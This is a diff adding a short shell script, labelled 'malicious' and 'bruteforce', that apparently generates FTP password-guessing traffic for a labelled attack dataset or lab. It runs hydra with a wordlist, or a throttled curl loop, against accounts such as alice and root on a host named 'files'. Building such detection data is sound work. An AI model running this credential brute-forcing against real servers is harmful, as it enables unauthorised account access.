@@ -1,0 +1,19 @@
+# label: malicious
+# class: bruteforce
+# twin: ftp_forgetful
+# tools: hydra curl vsftpd
+# about: Passwords of accounts are guessed over FTP.
+# command: hydra ftp:// or curl ftp://
+# params: fast net=lan TOOL=hydra TRIES=40 OPTS="-t 6" limit=20
+# params: client net=wan TOOL=curl TRIES=14 limit=22
+words "$TRIES" >list
+if [ "$TOOL" = hydra ]; then
+	hydra -I -l alice -P list $OPTS ftp://files
+else
+	while read -r guess; do
+		curl -s --max-time 8 -u "$(pick alice bob root):$guess" ftp://files/ &
+		pause 0.3 1.1
+	done <list
+	wait
+fi
+true
